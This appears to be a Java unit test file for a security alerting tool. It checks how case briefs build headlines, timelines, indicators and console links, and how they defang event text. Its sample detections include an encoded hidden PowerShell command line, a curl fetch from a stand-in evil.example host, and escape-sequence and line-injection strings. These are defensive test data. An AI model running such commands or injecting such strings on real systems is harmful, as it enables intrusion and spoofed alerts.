package dev.takagari.alerting.note;

import static org.assertj.core.api.Assertions.assertThat;

import dev.takagari.alerting.facts.FactKeys;
import dev.takagari.alerting.note.CaseBrief.Indicator;
import dev.takagari.alerting.note.CaseBrief.Indicator.Standing;
import dev.takagari.alerting.note.CaseBrief.Link;
import dev.takagari.core.cases.Actor;
import dev.takagari.core.cases.CaseKey;
import dev.takagari.core.cases.CloseReason;
import dev.takagari.core.cases.Fact;
import dev.takagari.core.cases.FactGroup;
import dev.takagari.core.cases.TimelineEntry.What;
import dev.takagari.core.detection.Detection;
import dev.takagari.core.detection.DetectionDraft;
import dev.takagari.core.detection.Detections;
import dev.takagari.core.event.Columns;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SequencedMap;
import org.junit.jupiter.api.Test;

class CaseBriefsTest {

  private static Detection with(Object... columnsAndValues) {
    return DetectionDraft.like(Detections.of("falcon:1", "group", "0142"))
        .fields(Detections.fields(columnsAndValues))
        .detection();
  }

  private static FactGroup known(FactGroup.State state, Fact... facts) {
    return new FactGroup(FactGroup.Kind.KNOWN, state, "", CaseDraft.OPENED, List.of(facts));
  }

  private static Fact fact(String label, String text, String verdict) {
    SequencedMap<String, String> values = new LinkedHashMap<>();
    if (!verdict.isEmpty()) {
      values.put(FactKeys.VERDICT, verdict);
    }
    return new Fact(label, text, "urlhaus", CaseDraft.OPENED, values);
  }

  @Test
  void theFirstLineSaysHowBadWhatAndWhere() {
    assertThat(new CaseDraft().brief().headline())
        .isEqualTo("HIGH · PowerShell download cradle on ws-0142");
    assertThat(new CaseDraft().hosts(200).brief().headline())
        .isEqualTo("HIGH · PowerShell download cradle on 200 hosts");
  }

  @Test
  void namesOfOurPeopleAreNotThoseOfEvents() {
    Actor ito = new Actor("k.ito", Actor.Origin.API);
    CaseBrief brief =
        new CaseDraft()
            .acknowledged()
            .entry(What.ACKNOWLEDGED, ito, "")
            .entry(What.ASSIGNED, ito, "to m.abe")
            .brief();

    assertThat(brief.state()).isEqualTo("acknowledged by k.ito");
    assertThat(brief.timeline().getLast().actor()).isEqualTo("k.ito");
    assertThat(brief.timeline().getLast().text()).isEqualTo("to m.abe");
  }

  @Test
  void slotsSayWhoDidWhatAndWhere() {
    CaseBrief brief = new CaseDraft().brief();

    assertThat(brief.who()).containsExactly("dana");
    assertThat(brief.what()).containsExactly("powershell -nop -w hidden -enc AAAA");
    assertThat(brief.where()).containsExactly("ws-0142");
    assertThat(brief.steps()).isNotEmpty();
  }

  @Test
  void whatNobodyKnowsIsEmpty() {
    CaseBrief brief = new CaseDraft().detection(with(Columns.EVENT_KIND, "alert")).brief();

    assertThat(brief.who()).isEmpty();
    assertThat(brief.where()).isEmpty();
    assertThat(brief.headline()).isEqualTo("HIGH · PowerShell download cradle");
  }

  @Test
  void textsOfEventsAreHarmless() {
    CaseBrief brief =
        new CaseDraft()
            .title("beacon to evil.example\u202e\nfake line")
            .detection(
                with(
                    Columns.HOST_NAME, "ws\u001b[31m-1",
                    Columns.PROCESS_COMMAND_LINE, "curl http://evil.example/x"))
            .entry(What.COMMENTED, new Actor("x\ny", Actor.Origin.SLACK), "see http://a.example")
            .brief();

    assertThat(brief.headline())
        .contains("evil[.]example")
        .doesNotContain("\n", "\u202e", "\u001b");
    assertThat(brief.what()).containsExactly("curl hxxp[://]evil[.]example/x");
    assertThat(brief.timeline().getLast().text()).isEqualTo("see hxxp[://]a[.]example");
    assertThat(brief.timeline().getLast().actor()).isEqualTo("x y");
  }

  @Test
  void indicatorsComeTheWorstFirstAndUnknownIsNoGoodSign() {
    CaseBrief brief =
        new CaseDraft()
            .facts(
                known(
                    FactGroup.State.PENDING,
                    fact("not found", "203.0.113.9: not known", ""),
                    fact("called harmless", "good.example: fine", "benign"),
                    fact("called malicious", "evil.example: listed", "malicious")))
            .brief();

    assertThat(brief.indicators())
        .extracting(Indicator::standing)
        .containsExactly(Standing.MALICIOUS, Standing.NOT_FOUND, Standing.BENIGN);
    assertThat(brief.indicators().getFirst().text()).startsWith("evil[.]example");
    assertThat(brief.asking()).isTrue();
  }

  @Test
  void linksHoldTimesAndQueriesThatMeanWhatTheySay() {
    CaseBrief brief =
        new CaseDraft()
            .detection(
                with(
                    Columns.USER_NAME, "d\"ana",
                    Columns.HOST_NAME, "ws-1",
                    Columns.DNS_QUESTION_NAME, "evil.example",
                    Columns.DESTINATION_IP, "10.0.0.1"))
            .brief();

    Map<Link.Kind, String> links = new LinkedHashMap<>();
    brief
        .links()
        .forEach(
            link -> links.put(link.kind(), URLDecoder.decode(link.url(), StandardCharsets.UTF_8)));
    assertThat(links.get(Link.Kind.CASE)).isEqualTo("https://takagari.example/cases/A-2026-000482");
    assertThat(links.get(Link.Kind.PEERS))
        .contains("dns.question.name:evil.example")
        .doesNotContain("10.0.0.1");
    assertThat(links.get(Link.Kind.USER))
        .contains("user.name:\"d\"\"ana\"", "from=2026-11-20T02:04:05Z", "to=2026-11-20T04:04:05Z");
  }

  @Test
  void whoElseSpokeWithWhatIsSaidToBeBadIsOneClickAway() {
    CaseBrief brief =
        new CaseDraft()
            .facts(
                known(
                    FactGroup.State.COMPLETE,
                    fact("called malicious", "evil.example: listed", "malicious"),
                    fact("called harmless", "good.example: fine", "benign")))
            .brief();

    assertThat(brief.links())
        .filteredOn(link -> link.kind() == Link.Kind.PEERS)
        .singleElement()
        .satisfies(
            link -> assertThat(link.url()).contains("evil.example").doesNotContain("good.example"));
  }

  @Test
  void withoutAConsoleThereAreNoLinksIntoIt() {
    CaseLinks none = new CaseLinks(null);

    assertThat(none.of(CaseDraft.KEY, with(Columns.USER_NAME, "dana"), Detections.TIME, List.of()))
        .isEmpty();
    assertThat(none.ofCase(CaseDraft.KEY)).isEmpty();
  }

  @Test
  void theStateSaysByWhomAndAsWhat() {
    assertThat(new CaseDraft().acknowledged().brief().state()).isEqualTo("acknowledged by dana");
    assertThat(new CaseDraft().closed(CloseReason.EXPECTED, "").brief().state())
        .isEqualTo("closed as expected");
    assertThat(new CaseDraft().mergedInto(new CaseKey(2026, 7)).brief().state())
        .isEqualTo("closed as duplicate, merged into A-2026-000007");
  }

  @Test
  void ofALongTimelineTheBeginningAndTheEndAreTold() {
    CaseDraft draft = new CaseDraft();
    for (int i = 0; i < 100; i++) {
      draft.entry(What.COMMENTED, CaseDraft.DANA, "comment " + i);
    }

    CaseBrief brief = draft.brief();

    assertThat(brief.timeline()).hasSize(CaseBriefs.MOST_ENTRIES);
    assertThat(brief.leftOut()).isEqualTo(101 - CaseBriefs.MOST_ENTRIES);
    assertThat(brief.timeline().getFirst().what()).isEqualTo(What.OPENED);
    assertThat(brief.timeline().getLast().text()).isEqualTo("comment 99");
  }
}
